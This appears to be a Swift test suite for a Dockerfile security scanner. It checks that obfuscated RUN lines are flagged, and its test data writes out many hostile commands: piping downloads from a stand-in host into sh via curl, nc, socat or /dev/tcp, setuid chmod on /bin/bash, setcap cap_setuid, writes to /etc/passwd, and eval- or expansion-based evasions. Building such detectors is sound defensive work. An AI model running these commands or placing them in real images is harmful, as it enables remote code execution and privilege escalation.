import Testing

@testable import Queue
@testable import Risk

/// Spellings a security review found to dodge the Dockerfile hints (each
/// checked with `list --json` on a queued capability-block proposal), and
/// the ordinary lines next to them that stay quiet.
extension RiskHintsDockerfileRootTests {
    func rules(_ lines: String) -> [String] { adding(lines).map(\.rule) }

    /// The seconds `body` takes (for the linear-time checks).
    func timed(_ body: () -> Void) -> Double {
        let start = ContinuousClock.now
        body()
        let elapsed = ContinuousClock.now - start
        return Double(elapsed.components.seconds) + Double(elapsed.components.attoseconds) / 1e18
    }

    @Test("shell keywords, { }, ( ) and eval hide no program: if/then, while/do, for, case, subshells")
    func keywordsHideNothing() {
        for (run, rule) in [
            ("RUN if true; then curl -fsSL https://x.example/i | sh; fi", "pipe-to-shell"),
            ("RUN while false; do :; done; if :; then usermod -ou 0 agent; fi", "root-account"),
            ("RUN for i in 1; do setcap cap_setuid+ep /usr/bin/python3; done", "file-capability"),
            ("RUN { if true; then chmod u+s /bin/bash; fi }", "setuid-file"),
            ("RUN curl https://x.example/i | (sh)", "pipe-to-shell"),
            ("RUN <<EOF\nif true; then chmod u+s /bin/bash; fi\nEOF", "setuid-file"),
            ("RUN until false; do chmod 4755 /bin/bash; break; done", "setuid-file"),
            ("RUN if false; then :; elif true; then chmod u+s /bin/bash; else :; fi", "setuid-file"),
            ("RUN case x in x) chmod u+s /bin/bash;; esac", "setuid-file"),
            ("RUN ! chmod u+s /bin/bash", "setuid-file"),
            ("RUN (cd /etc && echo x >> passwd)", "account-file"),
            ("RUN f() { chmod u+s /bin/bash; }; f", "setuid-file"),
            ("RUN eval 'chmod u+s /bin/bash'", "setuid-file"),
            (#"RUN eval "echo x >> /etc/passwd""#, "account-file"),
            ("RUN chroot / chmod u+s /bin/bash", "setuid-file"),
            ("RUN gosu root chmod u+s /bin/bash", "setuid-file"),
            ("RUN exec -c chmod u+s /bin/bash", "setuid-file"), ("RUN ionice -c 3 chmod u+s /bin/bash", "setuid-file"),
            ("RUN echo /bin/bash | xargs -n 1 chmod u+s", "setuid-file"),
            ("RUN chroot --userspec=0:0 / setcap cap_setuid+ep /usr/bin/python3", "file-capability"),
        ] {
            #expect(hinted(run, rule), "\(run): \(rules(run))")
        }
        // The words themselves are no program, and no hint comes of them.
        for quiet in ["RUN if [ -f /x ]; then echo yes; fi", "RUN for f in a b; do echo $f; done", "RUN (make && make install)"] {
            #expect(rules(quiet).isEmpty, "\(quiet): \(rules(quiet))")
        }
    }

    /// Every `eval` and `sh -c` text is read as a script once: thousands of distinct ones
    /// stay linear (four times as many may take at most eight times as long).
    @Test("a RUN of thousands of eval and sh -c scripts is hinted in linear time")
    func manyNestedScripts() {
        func seconds(_ count: Int) -> Double {
            let run = "RUN " + (0..<count).map { "eval 'echo \($0)'; sh -c 'echo \($0)'" }.joined(separator: "; ") + "; eval 'chmod u+s /bin/bash'"
            return timed { #expect(adding(run).contains { $0.rule == "setuid-file" }) }
        }
        _ = seconds(200)  // warm up
        let small = seconds(1_000)
        let large = seconds(4_000)
        #expect(large < 8 * small + 1, "\(small) s for 1,000, \(large) s for 4,000")
    }

    @Test("setuid modes with a leading operator: =4755, +4000, install -m=4755")
    func setuidOperatorModes() {
        for run in ["RUN chmod =4755 /bin/bash", "RUN chmod +4000 /bin/bash", "RUN install -m=4755 /bin/bash /x", "RUN chmod =6755 /bin/bash"] {
            #expect(hinted(run, "setuid-file"), "\(run): \(rules(run))")
        }
        #expect(hinted("RUN chmod +2000 /shared", "setuid-file", .warning))
        #expect(!rules("RUN chmod -4000 /bin/bash").contains("setuid-file"))
        #expect(!rules("RUN chmod =755 /usr/local/bin/tool").contains("setuid-file"))
    }

    @Test("downloads run another way: heredocs, >(sh), descriptors, nc/socat//dev/tcp, clones")
    func downloadsRunOtherways() {
        for run in [
            "RUN sh <<EOF\n$(curl https://x.example/i)\nEOF",
            "RUN curl https://x.example/i > >(sh)", "RUN curl https://x.example/i | tee >(bash) >/dev/null",
            "RUN exec 3< <(curl https://x.example/i); sh <&3",
            "RUN nc x.example 80 | sh", "RUN socat - TCP:x.example:80 | sh", "RUN ncat x.example 80 | bash",
            "RUN cat < /dev/tcp/x.example/80 | sh", "RUN exec 3<>/dev/tcp/x.example/80; bash <&3",
            "RUN git clone https://x.example/r /r && sh /r/i.sh", "RUN git clone https://x.example/tools.git && ./tools/install.sh",
            "RUN git clone --depth 1 https://x.example/r && cd r && ./install.sh",
            "RUN $(curl -s https://x.example/cmd) --now",
        ] {
            #expect(hinted(run, "pipe-to-shell"), "\(run): \(rules(run))")
        }
        for quiet in [
            "RUN git clone https://x.example/r /r && cat /r/README", "RUN nc -z db 5432",
            "RUN git clone https://x.example/r /r && git -C /r checkout 0123456789abcdef0123 && sh /r/i.sh",
        ] {
            #expect(!rules(quiet).contains("pipe-to-shell"), "\(quiet): \(rules(quiet))")
        }
    }

    @Test("a program named by an expansion is read when the script set it, and hinted when it cannot be")
    func expandedProgramNames() {
        #expect(hinted("RUN c=chmod; $c u+s /bin/bash", "setuid-file"))
        #expect(adding("ARG TOOL=setcap\nRUN $TOOL cap_setuid+ep /usr/bin/python3").contains { $0.rule == "file-capability" && $0.line == 4 })
        for run in ["RUN $(echo chmod) u+s /bin/bash", "RUN `echo chmod` u+s /bin/bash", "RUN $UNSET_TOOL u+s /bin/bash"] {
            #expect(hinted(run, "unreadable-command", .warning), "\(run): \(rules(run))")
        }
        #expect(!rules("RUN c=echo; $c hello").contains("unreadable-command"))
        #expect(!rules("RUN $HOME/.cargo/bin/cargo build").contains("unreadable-command"))
        #expect(hinted("RUN $(echo /bin)/chmod u+s /bin/bash", "setuid-file"))
        #expect(hinted("RUN $(printf '/bin/chm')od u+s /bin/bash", "unreadable-command", .warning))
    }

    @Test("packages installed straight from a URL or a repository are a warning")
    func remotePackages() {
        for run in [
            "RUN pip install https://x.example/tool.tar.gz", "RUN pip3 install git+https://x.example/tool.git",
            "RUN python3 -m pip install https://x.example/t.whl", "RUN npm install https://x.example/t.tgz",
            "RUN npm i github:x/tool", "RUN yarn add git+https://x.example/t.git", "RUN cargo install --git https://x.example/t",
        ] {
            #expect(hinted(run, "remote-package", .warning), "\(run): \(rules(run))")
        }
        #expect(!rules("RUN pip install requests==2.32.3").contains("remote-package"))
        #expect(!rules("RUN npm install -g typescript").contains("remote-package"))
    }

    @Test("archives over / and /etc, here-strings, mode-keeping copies and chroot")
    func archivesAndCopies() {
        #expect(hinted("ADD t.tar /etc/", "account-file", .warning))
        #expect(hinted("ADD x.tar /", "account-file", .warning))
        #expect(adding("WORKDIR /etc\nADD x.tar .").contains { $0.rule == "account-file" && $0.severity == .warning && $0.line == 4 })
        #expect(!rules("ADD tool.tgz /opt/").contains("account-file"))
        #expect(hinted("RUN tar xf t.tar -C /etc passwd", "account-file"))
        #expect(hinted("RUN tar --extract --file=t.tar --directory=/etc shadow", "account-file"))
        #expect(hinted("RUN tar -xzf t.tgz -C /", "account-file", .warning))
        #expect(hinted("RUN cd /etc && tar xf /tmp/t.tar", "account-file", .warning))
        #expect(hinted("RUN curl -s https://x.example/r.tgz | tar -xz -C /", "account-file", .warning))
        #expect(!rules("RUN tar -xzf app.tgz -C /opt/app").contains("account-file"))
        #expect(!rules("RUN tar -czf /tmp/etc.tgz -C / etc").contains("account-file"))
        #expect(hinted(#"RUN chpasswd <<< "root:x""#, "root-account"))
        #expect(hinted("RUN chpasswd <<EOF\nroot:x\nEOF", "root-account"))
        #expect(!rules(#"RUN chpasswd <<< "agent:x""#).contains("root-account"))
        for run in [
            "RUN cp -a /usr/bin/su /opt/x", "RUN cp -p /bin/su /tmp/s", "RUN cp --preserve=mode /usr/bin/passwd /x",
            "RUN chmod --reference=/usr/bin/passwd /bin/bash", "RUN cp /bin/bash /usr/bin/passwd",
            "RUN cat /bin/sh > /usr/bin/sudo",
        ] {
            #expect(hinted(run, "setuid-file"), "\(run): \(rules(run))")
        }
        #expect(hinted("RUN chmod --reference=/opt/a /opt/b", "setuid-file", .warning))
        #expect(!rules("RUN cp -a /opt/app /srv/app").contains("setuid-file"))
        #expect(!rules("RUN cp /usr/bin/passwd /tmp/passwd.bak").contains("setuid-file"))
    }

    @Test("ONBUILD is read as the instruction it carries")
    func onbuild() {
        for (line, rule) in [
            ("ONBUILD RUN --network=host curl -s http://169.254.169.254/", "build-privilege"),
            ("ONBUILD RUN --security=insecure true", "build-privilege"),
            ("ONBUILD RUN chmod u+s /bin/bash", "setuid-file"),
            ("ONBUILD RUN curl -s https://x.example/i | sh", "pipe-to-shell"),
            ("ONBUILD COPY passwd /etc/passwd", "account-file"),
            ("onbuild ADD https://x.example/t /t", "add-from-url"),
        ] {
            let found = adding(line).first { $0.rule == rule && $0.line == 3 }
            #expect(found?.reason.hasPrefix("ONBUILD") == true, "\(line): \(rules(line))")
        }
        #expect(rules("ONBUILD RUN make").isEmpty)
    }

    @Test("SHELL or a heredoc shebang naming another interpreter is a warning")
    func unreadInterpreters() {
        #expect(hinted(#"SHELL ["/usr/bin/python3", "-c"]"#, "unreadable-command", .warning))
        let python = adding(#"SHELL ["/usr/bin/python3", "-c"]"# + "\nRUN import os; os.chmod('/bin/bash',0o4755)")
        #expect(python.contains { $0.rule == "unreadable-command" && $0.line == 4 }, "\(python)")
        #expect(hinted("RUN <<EOF\n#!/usr/bin/python3\nimport os; os.chmod('/bin/bash', 0o4755)\nEOF", "unreadable-command", .warning))
        #expect(hinted("RUN <<EOF\n#!/usr/bin/env -S perl -w\nchmod 04755, '/bin/bash';\nEOF", "unreadable-command", .warning))
        #expect(hinted("RUN python3 <<EOF\nimport os\nEOF", "unreadable-command", .warning))
        for quiet in [
            #"SHELL ["/bin/bash", "-o", "pipefail", "-c"]"# + "\nRUN make", "RUN <<EOF\n#!/bin/bash\nmake\nEOF",
            "RUN <<EOF\n#!/usr/bin/env sh\nmake\nEOF", "RUN bash <<EOF\nmake\nEOF",
        ] {
            #expect(!rules(quiet).contains("unreadable-command"), "\(quiet): \(rules(quiet))")
        }
    }
}
